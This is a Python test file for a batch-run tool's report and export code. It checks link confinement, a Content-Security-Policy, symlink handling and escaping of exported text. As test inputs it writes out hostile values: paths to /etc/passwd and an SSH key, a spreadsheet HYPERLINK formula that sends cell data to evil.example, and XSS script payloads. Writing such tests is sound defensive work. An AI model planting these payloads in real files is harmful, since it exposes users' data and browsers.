"""The report of an edited manifest links nothing outside the run folder, and its page loads
nothing from anywhere else (a Content-Security-Policy, checked in headless Chromium too)."""

from __future__ import annotations

import base64
import re
import subprocess
from pathlib import Path

import pytest
from hostile import answer, hostile
from runfolder import image, png, rec, write_run

from batchrun.manifest.records import FileRecord
from batchrun.report.build import build_report
from batchrun.report.html import CONTENT_SECURITY_POLICY

pytestmark = pytest.mark.timeout(60)
CHROMIUM = Path("/usr/bin/chromium")


def hrefs(page: str) -> list[str]:
    return re.findall(r'(?:href|src)="([^"#]*)"', page)


def test_paths_outside_the_run_folder_are_not_linked(tmp_path: Path) -> None:
    outside = [
        FileRecord("https://x/1", "/etc/passwd", "00" * 32, 1),
        FileRecord("https://x/2", "../../home/me/.ssh/id_rsa.png", "00" * 32, 1),
        FileRecord("https://x/3", "a/../../up.png", "00" * 32, 1),
    ]
    records = [rec(f"k{i}", files=(file,)) for i, file in enumerate(outside)]
    records.append(image(tmp_path, "ok", "flux/ok.png"))
    page = build_report(write_run(tmp_path, records))
    assert hrefs(page) == ["flux/ok.png", "flux/ok.png"]
    assert page.count("outside the run folder, not linked") == 3


def test_the_page_carries_a_policy_that_loads_nothing_from_elsewhere(tmp_path: Path) -> None:
    page = build_report(write_run(tmp_path, [image(tmp_path, "ok", "flux/ok.png")]))
    meta = f'<meta http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}">'
    assert meta in page
    rules = dict(rule.split(" ", 1) for rule in CONTENT_SECURITY_POLICY.split("; "))
    assert rules["default-src"] == "'none'"
    assert rules["img-src"] == "'self' file: data:"
    assert rules["media-src"] == "'self' file:"
    assert "unsafe" not in CONTENT_SECURITY_POLICY
    assert "http" not in CONTENT_SECURITY_POLICY


@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs /usr/bin/chromium")
def test_a_browser_refuses_an_image_from_another_host(tmp_path: Path) -> None:
    # The policy must hold in a real browser: an <img> pointing at another host (as if markup
    # had slipped into the page) is blocked, while the run's own image still loads.
    run = write_run(tmp_path / "run", [image(tmp_path / "run", "ok", "flux/ok.png")])
    with hostile(lambda request, conn: answer(conn, 200, png(), "image/png")) as far:
        page = build_report(run).replace("</main>", f'<img src="{far.url}/x.png"></main>')
        (run / "report.html").write_text(page, encoding="utf-8")
        done = subprocess.run(
            [
                str(CHROMIUM),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                f"--user-data-dir={tmp_path / 'profile'}",
                "--virtual-time-budget=3000",
                "--dump-dom",
                (run / "report.html").as_uri() + "#check",
            ],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    assert done.returncode == 0, done.stderr
    body = re.search(r"<body([^>]*)>", done.stdout)
    assert body is not None
    # The check script ran (its hash is in the policy) and saw the run's own image load; the
    # other host never received a request.
    assert 'data-images-loaded="1"' in body.group(1)
    assert 'data-images-broken="1"' in body.group(1)
    assert far.requests == []


def test_an_embedded_page_takes_nothing_through_a_link(tmp_path: Path) -> None:
    # A link planted in the run folder where an output file should be: the page that embeds
    # its files (to be shared) must not carry what the link points at.
    secret = tmp_path / "id_rsa"
    secret.write_bytes(b"-----BEGIN OPENSSH PRIVATE KEY-----")
    run = tmp_path / "run"
    records = [image(run, "ok", "flux/ok.png"), image(run, "k2", "flux/k2.png")]
    (run / "flux" / "k2.png").unlink()
    (run / "flux" / "k2.png").symlink_to(secret)
    page = build_report(write_run(run, records), embed_limit=10_000_000)
    assert "data:image/png;base64," in page  # the real file is embedded
    assert base64.b64encode(secret.read_bytes()).decode()[:20] not in page
    assert 'src="flux/k2.png"' in page  # the link is only linked, as a missing file would be


def test_a_variable_named_like_a_formula_is_a_text_header_cell(tmp_path: Path) -> None:
    import csv

    from runfolder import rec, write_run

    from batchrun.cli import main

    run = tmp_path / "run"
    run.mkdir()
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    write_run(run, [rec("k1", vars={name: "x", "@cmd": "y"}, output="ok")])
    out = tmp_path / "out.csv"
    assert main(["export", str(run), "--format", "csv", "--to", str(out)]) == 0
    with out.open(newline="") as handle:
        header = next(csv.reader(handle))
    assert "'" + name in header
    assert "'@cmd" in header
    assert not any(cell.startswith(("=", "@", "+", "-")) for cell in header)


def test_server_and_manifest_text_on_the_dataset_card_stays_text(tmp_path: Path) -> None:
    import hashlib

    from runfolder import image, write_run

    from batchrun.cli import main
    from batchrun.manifest.records import FileRecord

    run = tmp_path / "run"
    run.mkdir()
    hostile_version = "<img src=x onerror=alert(1)>|`"
    hostile_target = "acme/x`|<script>alert(1)</script>\n# heading"
    planted = image(run, "k1", "flux/k1.png", version=hostile_version)
    data = (run / "flux" / "k1.png").read_bytes()
    file = FileRecord(
        planted.files[0].url, "flux/k1.png", hashlib.sha256(data).hexdigest(), len(data)
    )
    write_run(run, [planted.replace(files=(file,), target={"model": hostile_target})])
    dest = tmp_path / "dataset"
    assert main(["export", str(run), "--format", "hf", "--to", str(dest)]) == 0
    card = (dest / "README.md").read_text()
    body = card.split("\n---\n", 1)[1]  # after the YAML metadata, which YAML quotes
    # Markdown shows a backslash-escaped `<` as text: no tag of the server's can open.
    assert "<" not in body.replace("\\<", "")
    row = next(line for line in body.splitlines() if line.startswith("| flux"))
    # One row of six cells: no `|` of the server's split it, no line break ended it.
    assert row.replace("\\|", "").count("|") == 7
    assert "\n# heading" not in card
